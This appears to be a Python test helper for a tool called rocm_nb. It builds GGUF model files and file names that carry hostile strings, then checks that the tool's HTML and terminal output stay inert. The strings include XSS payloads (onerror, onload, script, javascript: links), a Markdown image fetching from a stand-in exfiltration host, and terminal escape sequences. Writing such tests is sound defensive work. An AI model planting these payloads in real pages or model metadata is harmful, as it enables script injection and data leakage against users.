"""Hostile text, GGUF files and file names that carry it, and checks that what rocm_nb shows of them is inert.

Each payload that would run in a browser sets its own flag on ``window``
(``window.__rocm_nb_pwned_<n>``), so a browser test can say which one ran.
:data:`HOSTILE` joins every payload; :data:`FILE_NAMES` are the payloads that
fit in a file name (no ``/``), each as one ``.gguf`` file's name.
"""

from __future__ import annotations

import html.parser
import re
from collections.abc import Iterable
from pathlib import Path

import gguf
import numpy as np

from rocm_nb._escape import printable

FLAG = "__rocm_nb_pwned"
"""The prefix of the ``window`` property each payload sets if it runs."""

PAYLOADS = (
    f'<img src=x onerror="window.{FLAG}_1=1">',
    f'<svg onload="window.{FLAG}_2=1"></svg>',
    f"<script>window.{FLAG}_3=1</script>",
    f"[a link](javascript:window.{FLAG}_4=1)",
    f"<javascript:window.{FLAG}_5=1>",  # a Markdown autolink
    f"[a reference][r]\n\n[r]: javascript:window.{FLAG}_6=1",  # a Markdown reference link
    "![an image](http://exfil.invalid/?q=secret)",  # Markdown that would fetch
    f'<a href="javascript:window.{FLAG}_7=1">raw link</a>',
    "`code` **bold** | a | table |",  # Markdown that would break a table or a code span
    "\x1b]0;pwned title\x07\x1b[31mred\x1b[0m",  # an OSC that sets the terminal's title, and colours
    "split\nrow\r\u202eesrever\u2028\x00",  # a newline, a carriage return, a bidi override, a separator, NUL
)
HOSTILE = "Evil " + " ".join(PAYLOADS)
"""Every payload in one string: what every string field of :func:`write_hostile_gguf`'s file holds."""

FILE_NAMES = (
    f'<img src=x onerror="window.{FLAG}_11=1">',
    f'<svg onload="window.{FLAG}_12=1">',
    f"[a link](javascript:window.{FLAG}_13=1)",
    f"<javascript:window.{FLAG}_14=1>",
    "![an image](exfil.png?q=secret)",
    "`code` | cell",
    "title\x1b]0;pwned\x07 colour\x1b[31m",
    "split\nrow\u202eesrever",
)
"""Payloads that fit in a file name: each is the stem of one hostile ``.gguf`` file."""

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
"""The control characters terminal text must not carry (newline and tab may separate lines and cells)."""

SAFE_TAGS = frozenset({
    "p", "strong", "em", "b", "i", "code", "pre", "br", "hr", "blockquote", "table", "thead", "tbody", "tr", "th",
    "td", "ul", "ol", "li", "sub", "div", "span", "details", "summary", "progress",
    "h1", "h2", "h3", "h4", "h5", "h6",
})
"""Elements rocm_nb's HTML may hold: none loads anything, runs anything or links anywhere."""


def write_hostile_gguf(path: Path, text: str = HOSTILE) -> Path:
    """A small real GGUF whose every string field is ``text``: metadata (architecture, name, file type, chat
    template, the rest of ``general.*``), a string array, and a tensor's name."""
    path.parent.mkdir(parents=True, exist_ok=True)
    writer = gguf.GGUFWriter(path, text)  # general.architecture; the numbers are then keyed "<text>.…"
    writer.add_name(text)
    for key in ("general.basename", "general.description", "general.author", "general.organization",
                "general.license", "general.url", "general.quantized_by", "general.file_type",
                "tokenizer.ggml.model", "tokenizer.chat_template"):
        writer.add_string(key, text)
    writer.add_array("tokenizer.ggml.tokens", [text, "ok"])
    writer.add_context_length(2048)
    writer.add_block_count(2)
    writer.add_tensor("blk.0.ffn_up.weight", np.ones((4, 8), dtype=np.float16))
    writer.add_tensor("<svg onload=alert(1)>", np.ones((4, 8), dtype=np.float16))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


def write_hostile_files(folder: Path) -> list[Path]:
    """One small GGUF per name in :data:`FILE_NAMES` in ``folder``, each also hostile inside; return their paths."""
    return [write_hostile_gguf(folder / f"{name}.gguf") for name in FILE_NAMES]


def copy_with_name(source: Path, target: Path, name: str = HOSTILE) -> Path:
    """A copy of a real model (``source``) whose ``general.name`` is ``name``: llama-server loads it as it is."""
    from gguf.scripts.gguf_new_metadata import MetadataDetails, copy_with_new_metadata

    target.parent.mkdir(parents=True, exist_ok=True)
    reader = gguf.GGUFReader(source, "r")
    arch = str(reader.fields["general.architecture"].contents())
    writer = gguf.GGUFWriter(target, arch=arch, endianess=reader.endianess)
    copy_with_new_metadata(reader, writer, {"general.name": MetadataDetails(gguf.GGUFValueType.STRING, name)}, [])
    return target


class _Elements(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def inert_html(markup: str) -> str:
    """Check that ``markup`` holds only :data:`SAFE_TAGS`, with no event handler, link or source; return its text.

    The text is what a browser would show, entities decoded: a caller checks
    that the payloads are there, as text.
    """
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in SAFE_TAGS, f"<{tag}> in rocm_nb's HTML: {markup[:2000]}"
        for name, value in attrs:
            assert not name.startswith("on"), f"an event handler ({name}) in rocm_nb's HTML: {markup[:2000]}"
            assert name not in ("href", "src", "srcset", "action", "formaction", "xlink:href"), (
                f"<{tag} {name}={value!r}> in rocm_nb's HTML: {markup[:2000]}")
    return "".join(parser.text)


def inert_text(text: str) -> str:
    """Check that terminal text carries no control character but newlines and tabs; return it."""
    found = CONTROL.search(text)
    assert found is None, f"a raw control character {found.group()!r} in {text!r}"
    return text


def shown(payloads: Iterable[str]) -> list[str]:
    """How each of ``payloads`` reads once shown on one line (control characters escaped)."""
    return [printable(p) for p in payloads]
